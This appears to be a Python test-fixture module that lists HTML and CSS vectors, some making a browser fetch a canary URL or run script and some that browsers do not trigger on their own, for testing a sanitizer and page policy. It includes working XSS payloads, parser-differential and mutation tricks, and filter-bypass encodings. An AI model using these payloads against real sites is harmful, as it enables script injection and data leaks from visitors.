"""Pages that a template could make: each fetches something, or runs something, where nothing stops it."""

from collections.abc import Callable, Mapping

Vector = Callable[[str], str]
_PAGE = '<!DOCTYPE html>\n<html lang="en">\n<head>\n<title>t</title>{head}</head><body><h1>P</h1>{body}</body></html>'
_RUN = "fetch('{url}')"


def body(text: str) -> Vector:
    """Return a page with ``text`` in its body; URL is the canary, and RUN a script that calls it."""
    return lambda url: _PAGE.format(head="", body=_filled(text, url))


def head(text: str) -> Vector:
    return lambda url: _PAGE.format(head=_filled(text, url), body="")


def style(text: str) -> Vector:
    return head(f"<style>{text}</style>")


def whole(text: str) -> Vector:
    return lambda url: _filled(text, url)


def _filled(text: str, url: str) -> str:
    return text.replace("RUN", _RUN.format(url=url)).replace("URL", url)


HEARD: Mapping[str, Vector] = {
    # Read in one way by a simple reader, and in another by a browser.
    "comment that ends at once": body("<!--><img src=URL>-->"),
    "comment that ends at a dash": body("<!---><img src=URL>-->"),
    "comment that ends with a mark": body("<!-- --!><img src=URL>-->"),
    "no CDATA in HTML": body("<![CDATA[><img src=URL>]]>"),
    "style in a title": body("<title><style></title><img src=URL></style></title>"),
    "style in a text field": body("<textarea><style></textarea><img src=URL></style>"),
    "noscript": body('<noscript><p title="</noscript><img src=URL>"></noscript>'),
    "markup in raw text": body("<noembed><p title='</noembed><img src=URL>'></noembed>"),
    "markup in an old raw text": body("<xmp><p title='</xmp><img src=URL>'></xmp>"),
    "style that leaves SVG": body("<svg><style><img src=URL></style></svg>"),
    "out of SVG": body("<svg></p><style><a id='</style><img src=URL>'>"),
    "MathML": body("<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=URL&gt;' src=URL>"),
    "bogus comment": body("<?x ><img src=URL>?>"),
    "script after a quote": body("<p title='a'title='<p>'><script>RUN</script>"),
    "slash for a space": body("<img/src=URL>"),
    # Scripts.
    "script": body("<script>RUN</script>"),
    "script from elsewhere": body("<script src=URL></script>"),
    "script in SVG": body("<svg><script>RUN</script></svg>"),
    "handler": body('<img src="data:image/png;base64,AAAA" onerror="RUN">'),
    "handler of SVG": body('<svg onload="RUN"></svg>'),
    "handler of a fold": body('<details open ontoggle="RUN"><summary>x</summary></details>'),
    "handler of an animation": body('<svg><animate onbegin="RUN" attributeName="x" dur="1s"/></svg>'),
    "frame with a page in it": body('<iframe srcdoc="<script>RUN</script>"></iframe>'),
    "frame with a script": body('<iframe src="javascript:parent.RUN"></iframe>'),
    "module": body("<script type=module>RUN</script>"),
    "before the head": whole("<!DOCTYPE html><script>RUN</script><html><head></head><body></body></html>"),
    # Fetched by an element.
    "picture": body("<img alt='' src='URL'>"),
    "picture for a screen": body("<img alt='' src='data:image/png,x' srcset='data:image/png,x 0.1x, URL 1x'>"),
    "picture in a choice": body("<picture><source srcset='URL'><img alt='' src='data:image/gif,x'></picture>"),
    "video": body("<video src='URL' autoplay></video>"),
    "poster": body("<video poster='URL'></video>"),
    "sound": body("<audio src='URL' preload=auto></audio>"),
    "embed": body("<embed src='URL'>"),
    "object": body("<object data='URL'></object>"),
    "frame": body("<iframe src='URL'></iframe>"),
    "image button": body("<input type=image alt=x src='URL'>"),
    "background": body("<table background='URL'><tr><td>x</td></tr></table>"),
    "style sheet": head("<link rel=stylesheet href='URL'>"),
    "icon loaded before": head("<link rel=preload as=image href='URL'>"),
    "imagesrcset": head("<link rel=preload as=image imagesrcset='URL 1x'>"),
    "module loaded before": head("<link rel=modulepreload href='URL'>"),
    "base": head("<base href='URL/'><link rel=stylesheet href='x'>"),
    "link with a line break in it": body("<img alt='' src='ht\ntp&colon;//HOST'>"),
    "image of SVG": body("<svg><image href='URL' width=9 height=9 /></svg>"),
    "xlink image of SVG": body("<svg><image xlink:href='URL' width=9 height=9 /></svg>"),
    "filter image": body(
        "<svg><filter id=f><feImage href='URL'/></filter><rect width=9 height=9 filter='url(#f)'/></svg>"
    ),
    "set": body("<svg><image width=9 height=9><set attributeName=href to='URL'/></image></svg>"),
    "animate": body("<svg><image width=9 height=9><animate attributeName=href values='URL' dur=9s /></image></svg>"),
    "foreign object": body("<svg><foreignObject width=9 height=9><img src='URL'></foreignObject></svg>"),
    # Fetched by a style.
    "import": style("@import 'URL';"),
    "import with an escape": style(r"@\69mport 'URL';"),
    "style address": style("h1 { background: url(URL) }"),
    "style address with an escape": style(r"h1 { background: \75rl(URL) }"),
    "style address in capitals": style(r"h1 { background: U\52 L('URL') }"),
    "image-set": style("h1 { background: image-set('URL' 1x) }"),
    "image-set of old": style("h1 { background: -webkit-image-set(url(URL) 1x) }"),
    "image-set from a property": style("h1 { --a: 'URL'; background: image-set(var(--a) 1x) }"),
    "cross-fade": style("h1 { background: -webkit-cross-fade(url(URL), url(data:image/gif,x), 50%) }"),
    "cursor": body("<p style='cursor: url(URL), auto'>x</p>"),
    "style attribute": body("<p style='background: url(URL)'>x</p>"),
    "style attribute with an entity": body("<p style='background: u&#114;l(URL)'>x</p>"),
    "list image": body("<ul style='list-style-image: url(URL)'><li>x</li></ul>"),
    "content": style("h1::before { content: url(URL) }"),
    "mask": style("h1 { -webkit-mask-image: url(URL) }"),
    "font": style("@font-face { font-family: x; src: url(URL) } h1 { font-family: x }"),
    "style in SVG": body("<svg><style>rect { mask-image: url(URL) }</style><rect width=9 height=9 /></svg>"),
    "style in CDATA": body("<svg><style><![CDATA[h1 { background: url(URL) }]]></style></svg>"),
    "style behind a comment": style("h1 { background: /*'*/ url(URL) }"),
    # Leads elsewhere by itself.
    "refresh": head("<meta http-equiv=refresh content='0; url=URL'>"),
    "refresh in the body": body("<meta http-equiv=refresh content='0; url=URL'>"),
}
"""What calls the canary in a browser of today, if neither our policy nor our check stops it."""

SILENT: Mapping[str, Vector] = {
    "filter of SVG": body("<svg><rect width='9' height='9' filter='url(URL#f)'/></svg>"),
    "use": body("<svg><use href='URL#x'/></svg>"),
    "link that runs": body("<a href='javascript:RUN'>x</a>"),
    "link that runs, with a tab": body("<a href='java\tscript:RUN'>x</a>"),
    "link that runs, behind a control": body("<a href='\x01javascript:RUN'>x</a>"),
    "link of SVG that runs": body("<svg><a href='javascript:RUN'><text y='9'>x</text></a></svg>"),
    "link to a page in itself": body("<a href='data:text/html,x'>x</a>"),
    "ping": body("<a href='#x' ping='URL'>x</a>"),
    "form": body("<form action='URL'><button>x</button></form>"),
    "button": body("<button formaction='URL'>x</button>"),
    "name looked up before": head("<link rel=dns-prefetch href='URL'>"),
    "connection made before": head("<link rel=preconnect href='URL'>"),
    "attribution": body("<a href='#x' attributionsrc='URL'>x</a>"),
    "template": body("<template><img src='URL'></template>"),
    "own element": body("<x-y></x-y>"),
    "portal": body("<portal src='URL'></portal>"),
    "marquee": body("<marquee onstart='RUN'>x</marquee>"),
    "headers": head("<meta http-equiv='x-dns-prefetch-control' content='on'>"),
    "address of XML": body("<svg xml:base='URL'></svg>"),
    "src()": style("h1 { background: src('URL') }"),
    "address that never ends": style("h1 { background: url(URL"),
    "manifest": head("<link rel=manifest href='URL'>"),
}
"""What no browser of today calls by itself, or only once somebody clicks: refused all the same."""
